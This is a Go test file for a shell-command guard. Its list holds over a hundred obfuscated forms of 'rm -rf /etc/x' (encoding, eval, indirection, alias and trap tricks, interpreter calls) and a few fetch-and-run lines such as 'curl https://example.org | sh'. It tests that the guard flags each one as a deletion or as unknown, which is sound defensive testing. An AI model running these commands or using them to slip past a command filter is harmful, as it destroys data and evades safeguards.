package shell

import (
	"slices"
	"testing"

	"handrail/guard"
)

// disguises all delete /etc/x when they run, or run what only the run will tell.
var disguises = []string{
	`r\m -rf /etc/x`, `"r"m -rf /etc/x`, `$'\162\155' -rf /etc/x`, `/bin/../bin/rm -rf /etc/x`, `/???/rm -rf /etc/x`, `f() { bash "$1"; }; f <(echo rm -rf /etc/x)`, `x=<(echo rm -rf /etc/x); bash $x`, `rm -rf /e??/x`, `rm -rf /[e]tc/x`,
	`a=r;b=m;$a$b -rf /etc/x`, `a=mr;${a:1:1}${a:0:1} -rf /etc/x`, `a="rm -rf /etc/x";$a`, `a=(rm -rf /etc/x);"${a[@]}"`, `set -- rm -rf /etc/x;"$@"`,
	`eval "$(echo cm0gLXJmIC9ldGMveA== | base64 -d)"`, `echo cm0gLXJmIC9ldGMveA== | base64 -d | bash`, `bash <<< "$(echo 'x/cte/ fr- mr' | rev)"`,
	`echo 'ez -es /rgp/k' | tr a-z n-za-m | sh`, `echo "rm -rf /etc/x" | gzip | gunzip | sh`, `printf '\x72\x6d -rf /etc/x' | sh`, `$(printf rm) -rf /etc/x`,
	`x() { "$@"; }; x rm -rf /etc/x`, `f() { rm -rf "${1:-/etc/x}"; }; f`, `IFS=_;a=rm_-rf_/etc/x;$a`, `c=rm;d=c;${!d} -rf /etc/x`, `declare -n r=q;q=rm;$r -rf /etc/x`,
	`: ${q:=rm}; $q -rf /etc/x`, `cd /etc && rm -rf x`, `cd / ; cd etc ; rm -rf ./x`, `pushd /etc; rm -rf x`, `(cd /etc; exec rm -rf x)`, `env -C /etc rm -rf x`,
	`ln -s /etc e && rm -rf e/x`, `ln -s /etc/x e; rm -rf e/`, `echo rm -rf /etc/x > s && sh s`, `cat > s <<E
rm -rf /etc/x
E
. ./s`, `tee s <<< 'rm -rf /etc/x' > /dev/null; bash ./s`, `echo 'rm -rf /etc/x' > s; cp s t; sh t`, `echo 'rm -rf /etc/x' > s; mv s t; sh t`, `echo 'rm -rf /etc/x' > s; ln -s s t; sh t`,
	`sh -c 'sh -c "sh -c \"rm -rf /etc/x\""'`, `sh -c '$0 "$@"' rm -rf /etc/x`, `xargs rm -rf <<< /etc/x`, `echo /etc/x | xargs -I% rm -rf %`, `echo rm -rf /etc/x | xargs env`,
	`printf '/etc/x\0' | xargs -0 rm -rf`, `find /etc/x -delete`, `find /etc -name x -exec rm -rf {} +`, `timeout 5 nice nohup setsid env A=b rm -rf /etc/x`, `sudo -u root -- rm -rf /etc/x`,
	`command rm -rf /etc/x`, `builtin eval rm -rf /etc/x`, `exec -a x rm -rf /etc/x`, `coproc rm -rf /etc/x`, `trap 'rm -rf /etc/x' EXIT`, `trap 'rm -rf /etc/x' DEBUG; :`,
	`a='a[$(rm -rf /etc/x)]'; ((a))`, `a='a[$(rm -rf /etc/x)]'; let a`, `a='a[$(rm -rf /etc/x)]'; [[ $a -eq 1 ]]`, `a='a[$(rm -rf /etc/x)]'; b[$a]=1`, `a='a[$(rm -rf /etc/x)]'; echo ${b[$a]}`,
	`a='a[$(rm -rf /etc/x)]'; echo ${b:a}`, `a='a[$(rm -rf /etc/x)]'; declare -i b=$a`, `test -v 'a[$(rm -rf /etc/x)]'`, `unset 'a[$(rm -rf /etc/x)]'`, `printf -v 'a[$(rm -rf /etc/x)]' b`,
	`a='$(rm -rf /etc/x)'; : "${a@P}"`, `: "${z-'$(rm -rf /etc/x)'}"`, `: ${z:=$(rm -rf /etc/x)}`, `: <(rm -rf /etc/x)`, `: > >(rm -rf /etc/x)`, `[[ -n $(rm -rf /etc/x) ]]`, `a=$(rm -rf /etc/x)`,
	`a[$(rm -rf /etc/x)]=1`, `a=([$(rm -rf /etc/x)]=1)`, `for i in $(rm -rf /etc/x); do :; done`, `case $(rm -rf /etc/x) in esac`, `cat <<E
$(rm -rf /etc/x)
E`, `cat <<< $(rm -rf /etc/x)`, `> $(rm -rf /etc/x)`, `: {fd}> $(rm -rf /etc/x)`, `export a=$(rm -rf /etc/x)`, `local a=$(rm -rf /etc/x)`, `alias ls='rm -rf /etc/x'
shopt -s expand_aliases
ls`, `hash -p /bin/rm ls; ls -rf /etc/x`, `ls() { rm -rf /etc/x; }; ls`, `command_not_found_handle() { rm -rf /etc/x; }; zz`, `mapfile -C 'rm -rf /etc/x;:' -c 1 a <<< b`,
	`read -r c a <<< 'rm /etc/x'; $c -rf $a`, `while read -r l; do eval "$l"; done <<< 'rm -rf /etc/x'`, `mapfile -t a <<< 'rm -rf /etc/x'; eval "${a[0]}"`, `source /dev/stdin <<< 'rm -rf /etc/x'`,
	`bash /dev/fd/3 3<<< 'rm -rf /etc/x'`, `bash /dev/stdin <<< 'rm -rf /etc/x'`, `. <(echo rm -rf /etc/x)`, `bash <(echo rm -rf /etc/x)`, `python3 -c 'import os; os.system("rm -rf /etc/x")'`,
	`perl -e 'system("rm","-rf","/etc/x")'`, `awk 'BEGIN{system("rm -rf /etc/x")}'`, `sed '1e rm -rf /etc/x' f`, `git -c alias.z='!rm -rf /etc/x' z`, `GIT_PAGER='rm -rf /etc/x' git log`,
	`BASH_ENV=<(echo rm -rf /etc/x) bash -c :`, `LD_PRELOAD=./x ls`, `PATH=.:$PATH ls`, `"$RM" -rf /etc/x`, `rm -rf "$DIR"`, `rm -rf $(cat list)`, `$(curl https://example.org)`, `curl https://example.org | sh`,
	"rm -rf /etc/x\r", "rm\u00a0-rf\u00a0/etc/x", "x=1 \\\n rm -rf \\\n /etc/x", "#\nrm -rf /etc/x", "rm -rf / etc/x", "if false; then rm -rf /etc/x; fi", "true || rm -rf /etc/x", "exit; rm -rf /etc/x",
	`i=0; while ((i<3)); do [ $i = 2 ] && rm -rf /etc/x; ((i++)); done`, `x=a; for i in 1 2 3; do rm -rf $x; x=$y; y=/etc/x; done`, `f() { x=/etc/x; }; x=a; f; rm -rf $x`, `x=a; { x=/etc/x; }; rm -rf $x`,
	`x=a; [ -f q ] && x=/etc/x; rm -rf $x`, `x=a; [ -f q ] || x=/etc/x; rm -rf $x`, `case $q in a) x=a;; *) x=/etc/x;; esac; rm -rf $x`, `x=/etc/x; unset y; rm -rf ${y:-$x}`, `cd /etc/x 2>/dev/null; rm -rf *`,
}

// TestNothingHides: what deletes /etc/x in disguise is seen as what it is, or
// as something that cannot be known.
func TestNothingHides(t *testing.T) {
	root := t.TempDir()
	r := reader(t, root)
	for _, source := range disguises {
		f := r.Read(source, root)
		sound(t, source, f)
		seen := slices.ContainsFunc(f.Effects, func(e guard.Effect) bool {
			switch e.Kind {
			case guard.Delete:
				return e.Target == "/etc/x" || !e.Exact && (e.Target == "/" || e.Target == "/etc") || e.Target == "/" && e.Deep || e.Target == "/etc" && !e.Exact
			case guard.Unknown:
				return true
			case guard.Code:
				return e.Action == "downloaded"
			case guard.System:
				return e.Action == "environment"
			}
			return false
		})
		if !seen {
			t.Errorf("%s\n%s", source, notation(f, root))
		}
	}
}
